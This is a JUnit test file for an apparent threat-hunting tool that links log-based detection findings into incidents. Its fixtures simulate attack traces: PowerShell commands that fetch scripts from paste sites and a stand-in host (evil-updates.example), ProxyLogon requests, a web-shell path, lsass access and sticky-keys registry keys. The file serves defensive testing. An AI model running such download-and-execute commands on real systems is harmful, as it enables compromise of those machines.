package dwell.pivot;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dwell.event.Event;
import dwell.hunt.Finding;
import dwell.hunt.Level;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** Incidents an analyst would sign: no links through special or built-in values, no cross-domain merges, causes. */
class IncidentTrustTest {
    private static Map<String, String> sysmon1(String image, String hashes, String parent, String user) {
        return Map.of("EventID", "1", "Channel", "Microsoft-Windows-Sysmon/Operational", "Image", image,
                "Hashes", hashes, "ParentImage", parent, "User", user);
    }

    private static Incident incidentOf(PivotResult r, Finding f) {
        return r.incidents().stream().filter(i -> i.findings().contains(f.id())).findFirst().orElse(null);
    }

    @Test
    void multicastBroadcastAndLinkLocalAddressesNeverLinkTwoHosts() throws Exception {
        PivotCase c = new PivotCase();
        for (String ip : List.of("224.0.0.252", "239.255.255.250", "10.255.255.255", "169.254.10.1", "255.255.255.255")) {
            Event a = c.windows("2020-01-01T10:00:00Z", "pc1.lab.local", "a.json",
                    Map.of("EventID", "3", "DestinationIp", ip, "Image", "C:\\Users\\x\\a.exe"));
            Event b = c.windows("2020-06-01T10:00:00Z", "pc2.lab.local", "b.json",
                    Map.of("EventID", "3", "DestinationIp", ip, "Image", "C:\\Users\\y\\b.exe"));
            c.finding(a, "net a " + ip);
            c.finding(b, "net b " + ip);
        }
        PivotResult r = c.run(1, PivotConfig.DEFAULT);
        for (Incident i : r.incidents()) {
            assertEquals(1, i.hosts().size(), i.toString());
            assertTrue(i.indicators().stream().noneMatch(x -> x.type().equals("ip")), i.toString());
        }
        assertTrue(r.pivotFindings().isEmpty(), r.pivotFindings().toString());
    }

    @Test
    void addressClasses() {
        assertEquals(AddressClass.SPECIAL, AddressClass.of("224.0.0.252"));
        assertEquals(AddressClass.SPECIAL, AddressClass.of("239.255.255.250"));
        assertEquals(AddressClass.SPECIAL, AddressClass.of("10.255.255.255"));
        assertEquals(AddressClass.SPECIAL, AddressClass.of("192.168.56.255"));
        assertEquals(AddressClass.SPECIAL, AddressClass.of("255.255.255.255"));
        assertEquals(AddressClass.SPECIAL, AddressClass.of("0.0.0.0"));
        assertEquals(AddressClass.SPECIAL, AddressClass.of("127.0.0.1"));
        assertEquals(AddressClass.SPECIAL, AddressClass.of("::1"));
        assertEquals(AddressClass.SPECIAL, AddressClass.of("fe80::1"));
        assertEquals(AddressClass.SPECIAL, AddressClass.of("ff02::1:3"));
        assertEquals(AddressClass.SPECIAL, AddressClass.of("not an address"));
        assertEquals(AddressClass.INTERNAL, AddressClass.of("10.0.2.15"));
        assertEquals(AddressClass.INTERNAL, AddressClass.of("172.16.66.1"));
        assertEquals(AddressClass.INTERNAL, AddressClass.of("192.168.1.20"));
        assertEquals(AddressClass.INTERNAL, AddressClass.of("100.64.12.7"));
        assertEquals(AddressClass.INTERNAL, AddressClass.of("fd00::5"));
        assertEquals(AddressClass.SHARED, AddressClass.of("151.101.0.133"), "Fastly, behind raw.githubusercontent.com");
        assertEquals(AddressClass.SHARED, AddressClass.of("104.20.208.21"), "Cloudflare, behind pastebin.com");
        assertEquals(AddressClass.SHARED, AddressClass.of("140.82.114.4"), "GitHub");
        assertEquals(AddressClass.SHARED, AddressClass.of("2606:4700::6810:84e5"), "Cloudflare");
        assertEquals(AddressClass.PUBLIC, AddressClass.of("104.140.114.110"));
        assertEquals(AddressClass.PUBLIC, AddressClass.of("203.0.113.77"));
        assertEquals(AddressClass.PUBLIC, AddressClass.of("2a00:1450::1"));
        assertEquals(AddressClass.PUBLIC, AddressClass.of("::ffff:8.8.8.8"));
    }

    @Test
    void theSamePublicAddressInTwoDomainsMakesTwoIncidentsAndThePivotStaysInItsDomain() throws Exception {
        PivotCase c = new PivotCase();
        Event a = c.web("web1.corp-a.com", "A/W3SVC1", "2021-03-03T01:00:00Z", "203.0.113.5", "POST", "/ecp/y.js", "-", "x");
        Event b = c.web("web9.corp-b.org", "B/W3SVC1", "2021-03-04T01:00:00Z", "203.0.113.5", "POST", "/ecp/y.js", "-", "x");
        c.web("web9.corp-b.org", "B/W3SVC1", "2019-01-04T01:00:00Z", "203.0.113.5", "GET", "/owa/", "-", "x");
        c.web("web1.corp-a.com", "A/W3SVC1", "2020-05-04T01:00:00Z", "203.0.113.5", "GET", "/owa/", "-", "x");
        Finding fa = c.finding(a, "ProxyLogon SSRF");
        Finding fb = c.finding(b, "ProxyLogon SSRF");
        PivotResult r = c.run(1, PivotConfig.DEFAULT);
        assertEquals(2, r.incidents().size(), r.incidents().toString());
        assertNotEquals(incidentOf(r, fa).id(), incidentOf(r, fb).id());
        assertEquals(Instant.parse("2020-05-04T01:00:00Z"), incidentOf(r, fa).first());
        assertEquals(Instant.parse("2019-01-04T01:00:00Z"), incidentOf(r, fb).first());
        assertEquals(List.of("web1.corp-a.com"), incidentOf(r, fa).hosts());
    }

    @Test
    void accountsAreWeakTheyFindLeadsButNeverMergeNorDate() throws Exception {
        PivotCase c = new PivotCase();
        Event a = c.windows("2021-03-03T10:00:00Z", "pc1.corp.local", "a.json", Map.of("EventID", "4624",
                "TargetUserName", "j.smith", "IpAddress", "198.51.100.7"));
        Event b = c.windows("2021-03-05T10:00:00Z", "pc2.corp.local", "b.json", Map.of("EventID", "4624",
                "TargetUserName", "j.smith", "IpAddress", "198.51.100.8"));
        c.windows("2019-02-01T10:00:00Z", "pc1.corp.local", "old.json", Map.of("EventID", "4624", "TargetUserName", "j.smith"));
        Finding fa = c.finding(a, "odd logon a");
        Finding fb = c.finding(b, "odd logon b");
        PivotResult r = c.run(1, PivotConfig.DEFAULT);
        assertEquals(2, r.incidents().size(), r.incidents().toString());
        Incident ia = incidentOf(r, fa);
        assertEquals(Instant.parse("2021-03-03T10:00:00Z"), ia.first(), "a weak value never moves the first trace");
        Finding lead = r.pivotFindings().stream().filter(f -> f.time().equals(Instant.parse("2019-02-01T10:00:00Z")))
                .findFirst().orElseThrow();
        assertEquals(Level.LOW, lead.rule().level());
        assertEquals("weak", lead.details().get("strength"));
        assertTrue(ia.leads().contains(lead.id()) || incidentOf(r, fb).leads().contains(lead.id()));
        assertFalse(ia.findings().contains(lead.id()));
        Incident.Attributed account = ia.indicators().stream().filter(x -> x.type().equals("account")).findFirst().orElseThrow();
        assertEquals(Strength.WEAK, account.strength());
    }

    private static Finding download(PivotCase c, String time, String host, String url) {
        Event e = c.windows(time, host, "sysmon.json", Map.of("EventID", "1", "Image",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine",
                "powershell -c iwr " + url + " -OutFile $env:TEMP\\x.ps1"));
        return c.finding(e, "PowerShell download");
    }

    @Test
    void aPasteSiteOrCodeHostNameIsALeadNotALinkButItsUrlIsStrong() throws Exception {
        PivotCase c = new PivotCase();
        Finding admin = download(c, "2020-01-10T10:00:00Z", "srv1.corp.local", "https://raw.githubusercontent.com/PowerShell/PowerShell/master/tools/install-powershell.ps1");
        Finding actor = download(c, "2020-06-10T10:00:00Z", "srv1.corp.local", "https://raw.githubusercontent.com/x0r/kit/main/stage.ps1");
        Finding paste1 = download(c, "2020-02-10T10:00:00Z", "srv1.corp.local", "https://pastebin.com/raw/H4A4iDTA");
        Finding paste2 = download(c, "2020-07-10T10:00:00Z", "srv1.corp.local", "https://pastebin.com/raw/y2CjnRtH");
        Finding own1 = download(c, "2020-03-10T10:00:00Z", "srv1.corp.local", "https://cdn.evil-updates.example/a.ps1");
        Finding own2 = download(c, "2020-08-10T10:00:00Z", "srv1.corp.local", "https://cdn.evil-updates.example/b.ps1");
        Finding same1 = download(c, "2020-04-10T10:00:00Z", "srv1.corp.local", "https://pastebin.com/raw/Qq1Zz");
        Finding same2 = download(c, "2020-09-10T10:00:00Z", "srv1.corp.local", "https://pastebin.com/raw/Qq1Zz");
        PivotResult r = c.run(1, PivotConfig.DEFAULT);
        assertNotEquals(incidentOf(r, admin), incidentOf(r, actor), "two raw.githubusercontent.com downloads five months apart");
        assertNotEquals(incidentOf(r, paste1), incidentOf(r, paste2), "two pastes");
        assertEquals(incidentOf(r, own1), incidentOf(r, own2), "the actor's own domain links");
        assertEquals(incidentOf(r, same1), incidentOf(r, same2), "one paste's URL links");
        for (Incident i : r.incidents()) {
            for (Incident.Attributed a : i.indicators()) {
                if (a.value().endsWith("githubusercontent.com") || a.value().equals("pastebin.com")) {
                    assertEquals(Strength.WEAK, a.strength(), a.toString());
                }
            }
        }
    }

    @Test
    void wellKnownPrincipalsBySidAndBuiltInGroupsNeverPivot() throws Exception {
        PivotCase c = new PivotCase();
        // a localised built-in group: known only by its SID
        Event a = c.windows("2021-03-03T10:00:00Z", "dc1.corp.local", "sec.json", Map.of("EventID", "4732",
                "TargetUserName", "Administratoren", "TargetSid", "S-1-5-32-544", "MemberName", "CN=Eve"));
        Event b = c.windows("2021-03-04T10:00:00Z", "dc1.corp.local", "sec.json", Map.of("EventID", "4732",
                "TargetUserName", "Administratoren", "TargetSid", "S-1-5-32-544", "MemberName", "CN=Bob"));
        Event d = c.windows("2021-03-04T11:00:00Z", "dc1.corp.local", "sec.json", Map.of("EventID", "4728",
                "TargetUserName", "Domain Admins", "TargetSid", "S-1-5-21-1-2-3-512"));
        c.finding(a, "group add a");
        c.finding(b, "group add b");
        c.finding(d, "group add d");
        PivotResult r = c.run(1, PivotConfig.DEFAULT);
        assertTrue(r.pivotFindings().isEmpty(), r.pivotFindings().toString());
        assertTrue(r.incidents().stream().flatMap(i -> i.indicators().stream()).noneMatch(x -> x.type().equals("account")));
        Exclusions x = Exclusions.builtin();
        assertTrue(x.wellKnownSid("S-1-5-18"));
        assertTrue(x.wellKnownSid("S-1-5-32-555"));
        assertTrue(x.wellKnownSid("S-1-5-21-3623811015-3361044348-30300820-512"));
        assertTrue(x.wellKnownSid("S-1-5-90-0-1"));
        assertFalse(x.wellKnownSid("S-1-5-21-3623811015-3361044348-30300820-500"));
        assertFalse(x.wellKnownSid("S-1-5-21-3623811015-3361044348-30300820-1104"));
        for (String builtIn : List.of("administrators", "builtin\\administrators", "remote desktop users", "users",
                "nt authority\\system", "window manager\\dwm-1", "umfd-0", "nt service\\mssqlserver", "pc1$")) {
            assertTrue(x.excluded(new Value(Kind.ACCOUNT, builtIn), java.util.Set.of()), builtIn);
        }
    }

    @Test
    void hashesOfSystemFilesNullHashesAndImportHashesNeverLink() throws Exception {
        PivotCase c = new PivotCase();
        String cmd = "SHA1=0E2FC6CB2F8B8EAE6E0D3C3B3F4C5E6F7A8B9C0D,MD5=11111111111111111111111111111111,"
                + "IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744";
        Event a = c.windows("2021-03-03T10:00:00Z", "pc1.corp.local", "a.json",
                sysmon1("C:\\Windows\\System32\\cmd.exe", cmd, "C:\\x\\evil.exe", "corp\\bob"));
        Event b = c.windows("2021-03-09T10:00:00Z", "pc2.corp.local", "b.json",
                sysmon1("C:\\Windows\\System32\\cmd.exe", cmd, "C:\\y\\other.exe", "corp\\eve"));
        String empty = "MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744";
        Event d = c.windows("2021-03-10T10:00:00Z", "pc3.corp.local", "d.json",
                sysmon1("C:\\Users\\x\\a.exe", empty, "C:\\x\\evil.exe", "corp\\al"));
        Event e = c.windows("2021-03-11T10:00:00Z", "pc4.corp.local", "e.json",
                sysmon1("C:\\Users\\y\\b.exe", empty, "C:\\y\\other.exe", "corp\\jo"));
        for (Event x : List.of(a, b, d, e)) c.finding(x, "process " + x.host());
        PivotResult r = c.run(1, PivotConfig.DEFAULT);
        for (Incident i : r.incidents()) assertEquals(1, i.hosts().size(), i.toString());
        assertTrue(r.incidents().stream().flatMap(i -> i.indicators().stream())
                .noneMatch(x -> x.type().equals("hash")), r.incidents().toString());
        List<String> hashes = new java.util.ArrayList<>();
        PivotFields.hashes("SHA1=" + "A".repeat(40) + ",IMPHASH=" + "B".repeat(32) + ",SHA256=" + "C".repeat(64), hashes::add);
        assertEquals(List.of("a".repeat(40), "c".repeat(64)), hashes);
    }

    @Test
    void aDroppedToolsHashLinksTwoHostsOfOneDomain() throws Exception {
        PivotCase c = new PivotCase();
        String tool = "SHA256=" + "9".repeat(64);
        Event a = c.windows("2021-03-03T10:00:00Z", "pc1.corp.local", "a.json",
                sysmon1("C:\\Users\\Public\\svc.exe", tool, "C:\\Windows\\System32\\cmd.exe", "corp\\bob"));
        Event b = c.windows("2021-03-09T10:00:00Z", "pc2.corp.local", "b.json",
                sysmon1("C:\\ProgramData\\svc.exe", tool, "C:\\Windows\\System32\\cmd.exe", "corp\\eve"));
        Event d = c.windows("2021-03-09T10:00:00Z", "pc7.other.org", "d.json",
                sysmon1("C:\\ProgramData\\svc.exe", tool, "C:\\Windows\\System32\\cmd.exe", "other\\eve"));
        Finding fa = c.finding(a, "odd process a");
        Finding fb = c.finding(b, "odd process b");
        Finding fd = c.finding(d, "odd process d");
        PivotResult r = c.run(1, PivotConfig.DEFAULT);
        assertEquals(incidentOf(r, fa).id(), incidentOf(r, fb).id());
        assertEquals(List.of("pc1.corp.local", "pc2.corp.local"), incidentOf(r, fa).hosts());
        assertNotEquals(incidentOf(r, fa).id(), incidentOf(r, fd).id());
    }

    @Test
    void oneHostIdentityAcrossSpellingsAndHostlessItemsInheritTheirFoldersHost() {
        Map<String, List<String>> byItem = new java.util.TreeMap<>();
        byItem.put("case/EXCH01/events/sysmon.json", List.of("EXCH01.contoso.local"));
        byItem.put("case/EXCH01/Exchange/ECPServer.LOG", List.of("EXCH01"));
        byItem.put("case/DC1/events/security.evtx", List.of("dc1.contoso.local", "DC1.contoso.local"));
        byItem.put("case/lab/a.evtx", List.of("WEB01.corp-a.com"));
        byItem.put("case/lab/b.evtx", List.of("WEB01.corp-b.com", "web01"));
        List<String> items = List.of("case/EXCH01/inetpub/logs/W3SVC1/u_ex210303.log", "case/EXCH01/webroot.zip!/inetpub/x.aspx",
                "case/lab/c.log", "case/README.md");
        java.util.List<String> all = new java.util.ArrayList<>(byItem.keySet());
        all.addAll(items);
        Hosts h = Hosts.learn(byItem, List.of(), all);
        assertEquals("EXCH01.contoso.local", h.identity("EXCH01"));
        assertEquals("EXCH01.contoso.local", h.identity("exch01"));
        assertEquals(h.identity("DC1.contoso.local"), h.identity("dc1.contoso.local"));
        // two machines named WEB01 in two domains: the short name stays apart
        assertEquals("web01", h.identity("web01"));
        assertEquals("EXCH01.contoso.local", h.hostOf(null, "case/EXCH01/inetpub/logs/W3SVC1/u_ex210303.log"));
        assertEquals("EXCH01.contoso.local", h.hostOf(null, "case/EXCH01/webroot.zip!/inetpub/x.aspx"));
        assertEquals(null, h.hostOf(null, "case/lab/c.log"), "a folder of several hosts gives none");
        assertEquals(null, h.hostOf(null, "case/README.md"));
        assertEquals("contoso.local", Hosts.realm("EXCH01.contoso.local", null));
        assertEquals("host:iewin7", Hosts.realm("IEWIN7", null));
        Hosts inventory = Hosts.learn(Map.of("inv.csv", List.of()), List.of(List.of("EXCH02", "mail2.contoso.local")),
                List.of("inv.csv"));
        assertEquals("mail2.contoso.local", inventory.identity("exch02"));
    }

    @Test
    void theWorkerProcessChildOfAWebShellRequestJoinsItsIncident() throws Exception {
        PivotCase c = new PivotCase();
        Event post = c.web("2021-03-04T06:14:09Z", "198.51.100.23", "POST", "/aspnet_client/system_web/log.aspx", "-", "x");
        Event child = c.windows("2021-03-04T06:14:09.880Z", "EXCH01", "sysmon.json",
                sysmon1("C:\\Windows\\System32\\cmd.exe", "SHA256=" + "1".repeat(64), "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
                        "IIS APPPOOL\\DefaultAppPool"));
        Event later = c.windows("2021-03-04T07:30:00Z", "EXCH01", "sysmon.json",
                sysmon1("C:\\Windows\\System32\\cmd.exe", "SHA256=" + "1".repeat(64), "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
                        "IIS APPPOOL\\DefaultAppPool"));
        Finding shell = c.finding(post, "Script page under aspnet_client", "attack.t1505.003");
        Finding fc = c.finding(child, "Worker process starts a shell", "attack.t1505.003");
        Finding fl = c.finding(later, Level.MEDIUM, "Worker process starts a shell", "attack.t1505.003");
        PivotResult r = c.run(1, PivotConfig.DEFAULT);
        assertEquals(incidentOf(r, shell).id(), incidentOf(r, fc).id());
        assertEquals(null, incidentOf(r, fl), "76 minutes later is no longer that request's doing");
        assertTrue(r.unattributed().contains(fl.id()), "a medium finding in no incident is listed, not dropped");
    }

    @Test
    void findingsOfOneProcessTreeOnOneHostAreOneIncident() throws Exception {
        PivotCase c = new PivotCase();
        String shell = "{a1b2c3d4-0000-1111-2222-333344445555}";
        Event start = c.windows("2021-03-03T10:00:00Z", "pc1.corp.local", "sysmon.json", Map.of("EventID", "1",
                "Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "ProcessGuid", shell,
                "ParentProcessGuid", "{00000000-0000-0000-0000-000000000000}"));
        Event child = c.windows("2021-03-03T10:05:00Z", "pc1.corp.local", "sysmon.json", Map.of("EventID", "1",
                "Image", "C:\\Windows\\System32\\rundll32.exe", "ProcessGuid", "{a1b2c3d4-0000-1111-2222-999944445555}",
                "ParentProcessGuid", shell));
        Event access = c.windows("2021-03-03T10:06:00Z", "pc1.corp.local", "sysmon.json", Map.of("EventID", "10",
                "SourceProcessGUID", shell, "TargetImage", "C:\\Windows\\System32\\lsass.exe"));
        // the same GUID on another host, and a process whose parent GUID is all zeros: no link
        Event elsewhere = c.windows("2021-03-03T10:07:00Z", "pc2.corp.local", "sysmon.json", Map.of("EventID", "1",
                "Image", "C:\\Windows\\System32\\cmd.exe", "ProcessGuid", "{b0000000-0000-1111-2222-333344445555}",
                "ParentProcessGuid", shell));
        Event orphan = c.windows("2021-03-03T10:08:00Z", "pc1.corp.local", "sysmon.json", Map.of("EventID", "1",
                "Image", "C:\\Windows\\System32\\cmd.exe", "ProcessGuid", "{c0000000-0000-1111-2222-333344445555}",
                "ParentProcessGuid", "{00000000-0000-0000-0000-000000000000}"));
        Finding fs = c.finding(start, "encoded powershell");
        Finding fc = c.finding(child, "rundll32 from powershell");
        Finding fa = c.finding(access, "lsass access");
        Finding fe = c.finding(elsewhere, "cmd elsewhere");
        Finding fo = c.finding(orphan, "cmd orphan");
        PivotResult r = c.run(1, PivotConfig.DEFAULT);
        Incident tree = incidentOf(r, fs);
        assertEquals(tree, incidentOf(r, fc));
        assertEquals(tree, incidentOf(r, fa));
        assertEquals(null, incidentOf(r, fe));
        assertEquals(null, incidentOf(r, fo));
        assertTrue(r.unattributed().containsAll(List.of(fe.id(), fo.id())));
    }

    private static Map<String, String> registrySet(String key) {
        return Map.of("EventID", "13", "Channel", "Microsoft-Windows-Sysmon/Operational",
                "Image", "C:\\Windows\\System32\\reg.exe", "TargetObject", key);
    }

    @Test
    void detectionsCloseTogetherOnOneHostAreOneIncident() throws Exception {
        PivotCase c = new PivotCase();
        List<Finding> burst = new java.util.ArrayList<>();
        // a script setting seven debugger keys, one every 2-5 s (as Atomic Red Team's sticky-keys test does)
        int[] seconds = {2, 7, 10, 13, 14, 17, 19};
        for (int s : seconds) {
            Event e = c.windows(String.format("2019-07-19T14:50:%02dZ", s), "pc1.corp.local", "sysmon.json",
                    registrySet("HKLM\\...\\Image File Execution Options\\sethc" + s + ".exe\\Debugger"));
            burst.add(c.finding(e, Level.CRITICAL, "Sticky Key Like Backdoor Usage", "attack.t1546.008"));
        }
        // another rule tripped in the same seconds by the same act joins it
        burst.add(c.finding(c.windows("2019-07-19T14:50:05Z", "pc1.corp.local", "sysmon.json", registrySet("k0")),
                Level.HIGH, "Debugger set for an accessibility binary", "attack.t1546.008"));
        // a detection holding a strong value of its own (a dropped tool's hash) is never drawn in by time alone
        Finding tool = c.finding(c.windows("2019-07-19T14:50:11Z", "pc1.corp.local", "sysmon.json",
                sysmon1("C:\\Users\\x\\AppData\\Local\\Temp\\akagi64.exe", "SHA256=" + "2".repeat(64),
                        "C:\\Windows\\explorer.exe", "PC1\\x")), Level.HIGH, "UACMe");
        // the same rule 61 s after the last repeat, on another host, and a rule of low level: no burst
        Finding late = c.finding(c.windows("2019-07-19T14:51:20Z", "pc1.corp.local", "sysmon.json", registrySet("k1")),
                Level.CRITICAL, "Sticky Key Like Backdoor Usage", "attack.t1546.008");
        Finding other = c.finding(c.windows("2019-07-19T14:50:03Z", "pc2.corp.local", "sysmon.json", registrySet("k2")),
                Level.CRITICAL, "Sticky Key Like Backdoor Usage", "attack.t1546.008");
        Finding low1 = c.finding(c.windows("2019-07-19T15:00:00Z", "pc1.corp.local", "sysmon.json", registrySet("k3")),
                Level.LOW, "Registry write");
        Finding low2 = c.finding(c.windows("2019-07-19T15:00:01Z", "pc1.corp.local", "sysmon.json", registrySet("k4")),
                Level.LOW, "Registry write");
        PivotResult r = c.run(1, PivotConfig.DEFAULT);
        Incident one = incidentOf(r, burst.get(0));
        assertEquals(burst.stream().map(Finding::id).sorted().toList(), one.findings().stream().sorted().toList());
        assertEquals(Instant.parse("2019-07-19T14:50:02Z"), one.first());
        assertEquals(Instant.parse("2019-07-19T14:50:19Z"), one.last());
        for (Finding f : List.of(late, other, low1, low2)) assertEquals(null, incidentOf(r, f), f.rule().title());
        assertNotEquals(one, incidentOf(r, tool));
        assertTrue(r.unattributed().containsAll(List.of(late.id(), other.id())));
    }

    @Test
    void aBurstEndsAfterItsSpanSoARecurringRuleCannotStretchAnIncident() throws Exception {
        PivotCase c = new PivotCase();
        List<Finding> all = new java.util.ArrayList<>();
        // a monitoring job tripping a rule every 30 s for an hour
        for (int i = 0; i < 120; i++) {
            Instant t = Instant.parse("2020-01-01T00:00:00Z").plusSeconds(30L * i);
            all.add(c.finding(c.windows(t.toString(), "pc1.corp.local", "sysmon.json", registrySet("k" + i)),
                    Level.MEDIUM, "Run key set"));
        }
        PivotResult r = c.run(1, PivotConfig.DEFAULT);
        assertEquals(6, r.incidents().size(), "six bursts of ten minutes, not one incident of an hour");
        for (Incident i : r.incidents()) {
            assertTrue(java.time.Duration.between(i.first(), i.last()).getSeconds() <= 600, i.toString());
        }
        assertEquals(all.size(), r.incidents().stream().mapToInt(i -> i.findings().size()).sum());
    }

    @Test
    void twoActorsExploitingOneServerInTheSameMinuteStayApart() throws Exception {
        PivotCase c = new PivotCase();
        Event a = c.web("2021-03-03T01:00:00Z", "203.0.113.5", "POST", "/ecp/y.js", "-", "x");
        Event b = c.web("2021-03-03T01:00:20Z", "198.51.100.9", "POST", "/ecp/y.js", "-", "y");
        Finding fa = c.finding(a, "ProxyLogon SSRF");
        Finding fb = c.finding(b, "ProxyLogon SSRF");
        PivotResult r = c.run(1, PivotConfig.DEFAULT);
        assertNotEquals(incidentOf(r, fa), incidentOf(r, fb));
    }

    @Test
    void aPivotFindingCarriesTheWholeEventItFound() throws Exception {
        PivotCase c = new PivotCase();
        Event exploit = c.web("2021-03-03T07:00:00Z", "203.0.113.77", "POST", "/ecp/y.js", "-", "curl");
        c.web("2020-02-01T12:00:00Z", "203.0.113.77", "GET", "/owa/", "-", "curl");
        c.finding(exploit, "ProxyLogon SSRF");
        PivotResult r = c.run(1, PivotConfig.DEFAULT);
        Finding pf = r.pivotFindings().get(0);
        assertEquals("200", pf.event().get("sc-status"));
        assertEquals("2020-02-01", pf.event().get("date"));
        assertEquals("EXCH01", pf.host());
        assertFalse(r.incidents().get(0).summary().isBlank());
    }

    @Test
    void resultsDoNotDependOnThreadsWithHostsAndRealms() throws Exception {
        PivotCase c = new PivotCase();
        c.background(new Random(9), 500);
        Event a = c.web("web1.corp-a.com", "A/W3SVC1", "2021-03-03T01:00:00Z", "203.0.113.5", "POST", "/ecp/y.js", "-", "x");
        c.web("web1.corp-a.com", "A/W3SVC1", "2020-05-04T01:00:00Z", "203.0.113.5", "GET", "/owa/", "-", "x");
        c.finding(a, "ProxyLogon SSRF");
        String one = c.run(1, PivotConfig.DEFAULT).incidents().toString();
        assertEquals(one, c.run(3, PivotConfig.DEFAULT).incidents().toString());
    }

    @Test
    void aSidPatternMatchesAsItsRegularExpressionSays() {
        // the in-place comparison against the form it replaced, on SIDs made of the characters that matter
        List<String> patterns = List.of("S-1-5-21-*-512", "S-1-5-*", "S-1-5-90-*", "*-500", "S-1-*-*", "S-1-5-18", "*");
        String alphabet = "0123456789--S*x\u0661";
        Random random = new Random(20);
        for (int n = 0; n < 200_000; n++) {
            String pattern = patterns.get(random.nextInt(patterns.size()));
            StringBuilder sid = new StringBuilder(random.nextBoolean() ? pattern.substring(0, Math.max(0, pattern.indexOf('*'))) : "");
            for (int k = random.nextInt(12); k > 0; k--) sid.append(alphabet.charAt(random.nextInt(alphabet.length())));
            if (random.nextBoolean()) sid.append(pattern.substring(pattern.indexOf('*') + 1));
            assertEquals(regexMatches(pattern, sid.toString()), Exclusions.sidMatches(pattern, sid.toString()), pattern + " " + sid);
        }
    }

    private static boolean regexMatches(String pattern, String sid) {
        int star = pattern.indexOf('*');
        if (star < 0) return pattern.equals(sid);
        String head = pattern.substring(0, star);
        String tail = pattern.substring(star + 1);
        return sid.length() > head.length() + tail.length() && sid.startsWith(head) && sid.endsWith(tail)
                && sid.substring(head.length(), sid.length() - tail.length()).matches("\\d+(-\\d+)*");
    }
}
